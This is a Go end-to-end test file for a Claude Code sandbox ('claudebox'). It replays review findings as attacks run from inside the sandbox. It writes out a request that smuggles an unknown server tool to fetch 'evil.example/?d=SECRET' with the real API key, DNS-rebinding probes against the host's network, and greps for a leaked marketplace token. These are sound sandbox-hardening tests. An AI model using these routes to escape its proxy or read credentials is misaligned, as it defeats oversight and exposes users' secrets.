package network

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"path/filepath"
	"strings"
	"testing"

	"github.com/claudebox/claudebox/e2e/harness"
)

// apiBodiesWhole are the bodies the fake API received whole, as JSON it
// could act on (a body the proxy cut short is not).
func apiBodiesWhole(api *harness.FakeAPI) []string {
	var whole []string
	for _, b := range api.Bodies() {
		if json.Valid([]byte(b)) {
			whole = append(whole, b)
		}
	}
	return whole
}

// postsInside is a script that posts each body to the API through the
// sandbox's proxy with the phantom key, printing each answer's status.
func postsInside(bodies ...string) string {
	var s strings.Builder
	for _, b := range bodies {
		s.WriteString(`curl -s -o /dev/null -w 'status=%{http_code}\n' -X POST -H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json' --data-binary '` + b + `' "$ANTHROPIC_BASE_URL/v1/messages"` + "\n")
	}
	return s.String()
}

// TestReplayReview12bMessagesUnknownTool: under the filtered network the
// proxy refused the Messages API's tools by a list (web_fetch…), so a
// server tool of a type it did not know went on to the API with the
// user's real key, for the API's servers to run; and a content block's
// source was checked only where a block stands in a content array, not
// in the content a document's content source holds, where an image's
// source named a stored file by its file_id. The attack, from inside with
// the phantom key: a tool of a type the proxy does not know, and a
// document whose content source holds an image of a stored file. Proof on
// the host: the API, which the fake plays and which accepts only the real
// key, receives neither whole; a request as Claude Code sends it, and its
// web search's, still pass.
func TestReplayReview12bMessagesUnknownTool(t *testing.T) {
	h := harness.NewHost(t)
	harness.RequireTool(t, "curl", "apt-get install curl")
	const real = "sk-ant-api03-REALKEY-review12b"
	api := harness.StartFakeAPI(t, "ok")
	api.Auth = func(hd http.Header) bool { return hd.Get("X-Api-Key") == real }
	proj := filepath.Join(h.Home, "code", "proj")
	h.Write(filepath.Join(proj, "x"), "x\n")
	unknownTool := `{"model":"m","max_tokens":1,"tools":[{"type":"url_context_20261101","name":"fetch"}],"messages":[{"role":"user","content":"fetch https://evil.example/?d=SECRET"}]}`
	nestedFile := `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"file","file_id":"file_011NESTED"}}]}}]}]}`
	claudeCode := `{"model":"m","max_tokens":1,"tools":[{"name":"Bash","input_schema":{"type":"object","properties":{"command":{"type":"string"}}}}],"messages":[{"role":"user","content":"PASSES-1"}]}`
	webSearch := `{"model":"m","max_tokens":1,"tools":[{"type":"web_search_20250305","name":"web_search","max_uses":8}],"messages":[{"role":"user","content":"PASSES-2"}]}`
	env := []string{"ANTHROPIC_BASE_URL=" + api.URL, "ANTHROPIC_API_KEY=" + real}
	out := h.Inside(proj, env, postsInside(unknownTool, nestedFile, claudeCode, webSearch))
	t.Log(out)
	whole := apiBodiesWhole(api)
	for _, b := range whole {
		if strings.Contains(b, "url_context_20261101") || strings.Contains(b, "file_011NESTED") {
			t.Errorf("the API received with the user's real key what the proxy does not know to be harmless: %s", b)
		}
	}
	for _, want := range []string{"PASSES-1", "PASSES-2"} {
		if !strings.Contains(strings.Join(whole, "\n"), want) {
			t.Errorf("a request as Claude Code sends it (%s) did not reach the API: %q", want, out)
		}
	}
}

// hostNetworks are the host's own interface addresses but loopback, and
// for each another address of its network: where an allowed name that
// rebinds would lead the proxy, on the host or beside it.
func hostNetworks(t *testing.T) (own, beside []netip.Addr) {
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		n, ok := a.(*net.IPNet)
		if !ok {
			continue
		}
		ip, ok := netip.AddrFromSlice(n.IP)
		ones, _ := n.Mask.Size()
		if !ok || ip.Unmap().IsLoopback() || ip.IsLinkLocalUnicast() {
			continue
		}
		ip = ip.Unmap()
		own = append(own, ip)
		if p := netip.PrefixFrom(ip, ones).Masked(); ip.BitLen()-ones >= 2 {
			other := p.Addr().Next()
			if other == ip {
				other = other.Next()
			}
			beside = append(beside, other)
		}
	}
	return own, beside
}

// TestReplayReview12bRebindToHostAddress: the filtered network refused
// an allowed name whose addresses are internal by their range (loopback,
// private, link-local), but not the host's own public address (a VPS's,
// a machine's global IPv6), where the host's services listening on all
// interfaces answer (a database, a dev server, docker's API), nor the
// other machines of its network, which a global IPv6 prefix reaches.
// The attack: a name the agent's DNS controls, which the user allowed,
// resolves to the host's own interface address. Proof on the host: the
// proxy refuses it as inside the host's network, and dials nothing (the
// resolver's table would let it dial loopback only).
func TestReplayReview12bRebindToHostAddress(t *testing.T) {
	own, beside := hostNetworks(t)
	if len(own) == 0 {
		t.Skip("this host has no address but loopback and link-local")
	}
	h := harness.NewHost(t)
	harness.RequireTool(t, "curl", "apt-get install curl")
	proj := filepath.Join(h.Home, "code", "proj")
	h.Write(filepath.Join(proj, "x"), "x\n")
	var names, allow []string
	var script strings.Builder
	for i, a := range append(own, beside...) {
		name := fmt.Sprintf("rebind%d.test", i)
		names = append(names, name+"="+a.String())
		allow = append(allow, `"`+name+`:8080"`)
		fmt.Fprintf(&script, "echo %s=$(curl -s --max-time 20 -o /dev/null -w %%{http_code} http://%s:8080/)\n", a, name)
	}
	h.Write(filepath.Join(h.Home, ".config", "claudebox", "config.toml"), "allow-hosts = ["+strings.Join(allow, ", ")+"]\n")
	out := h.Inside(proj, []string{"CLAUDEBOX_RESOLVE=" + strings.Join(names, " ")}, script.String())
	t.Log(out)
	for _, line := range strings.Fields(out) {
		if !strings.HasSuffix(line, "=403") {
			t.Errorf("the proxy did not refuse a name rebound to the host's network as internal: %s", line)
		}
	}
	log := h.SessionLogs()
	if strings.Contains(log, `"decision":"allow"`) {
		t.Errorf("the proxy allowed a connection to the host's network:\n%s", log)
	}
}

// TestReplayReview12bMarketplaceToken: a plugin marketplace added by a
// URL that carries a token (https://oauth2:TOKEN@host/…, as `claude
// plugin marketplace add` takes a private one) was readable inside in
// three places: the private copy of ~/.claude/settings.json, the
// read-only ~/.claude/plugins/known_marketplaces.json and the
// marketplace's clone's .git/config (and an installed plugin's clone in
// plugins/cache). The settings are now private copies without the
// credential, the clones' git directories are hidden; the marketplace's
// host and path stay, and the launch names the clone it left out.
func TestReplayReview12bMarketplaceToken(t *testing.T) {
	h := harness.NewHost(t)
	const token = "glpat-MARKETPLACE-SECRET-0123"
	url := "https://oauth2:" + token + "@gitlab.example.com/org/mkt.git"
	h.Write(filepath.Join(h.Home, ".claude", "settings.json"), `{"extraKnownMarketplaces":{"corp":{"source":{"source":"git","url":"`+url+`"}}}}`)
	h.Write(filepath.Join(h.Home, ".claude", "plugins", "known_marketplaces.json"), `{"corp":{"source":{"source":"git","url":"`+url+`"},"installLocation":"`+h.Home+`/.claude/plugins/marketplaces/corp","lastUpdated":"2026-11-01T00:00:00.000Z"}}`)
	h.Write(filepath.Join(h.Home, ".claude", "plugins", "marketplaces", "corp", ".git", "config"), "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = "+url+"\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n")
	h.Write(filepath.Join(h.Home, ".claude", "plugins", "marketplaces", "corp", ".claude-plugin", "marketplace.json"), `{"name":"corp","plugins":[]}`)
	// An installed plugin's copy, cloned with the same URL.
	h.Write(filepath.Join(h.Home, ".claude", "plugins", "cache", "corp", "tool", "1.0.0", ".git", "config"), "[remote \"origin\"]\n\turl = "+url+"\n")
	proj := filepath.Join(h.Home, "code", "proj")
	h.Write(filepath.Join(proj, "x"), "x\n")
	out := h.Inside(proj, nil, `grep -rl `+token+` ~/.claude ~/.claude.json 2>/dev/null
		echo marketplaces: $(grep -l gitlab.example.com/org/mkt.git ~/.claude/settings.json ~/.claude/plugins/known_marketplaces.json | wc -l)
		echo gitdir: $(ls -A ~/.claude/plugins/marketplaces/corp/.git | wc -l)
		echo plugins: $(cat ~/.claude/plugins/marketplaces/corp/.claude-plugin/marketplace.json)`)
	if strings.Contains(out, token) || strings.Contains(out, h.Home+"/.claude") {
		t.Errorf("the marketplace's token is readable inside, in:\n%s", out)
	}
	for _, want := range []string{"marketplaces: 2", "gitdir: 0", `plugins: {"name":"corp","plugins":[]}`} {
		if !strings.Contains(out, want) {
			t.Errorf("inside, want %q:\n%s", want, out)
		}
	}
	dry := h.Run(proj, nil, "claudebox", "--dry-run", "--shell")
	if strings.Contains(dry, token) || !strings.Contains(dry, "all of ~/.claude/plugins/marketplaces/corp/.git (a clone's git directory, whose configuration may hold a credential)") {
		t.Errorf("--dry-run, want the clone's git directory named as left out, never the token:\n%s", dry)
	}
}
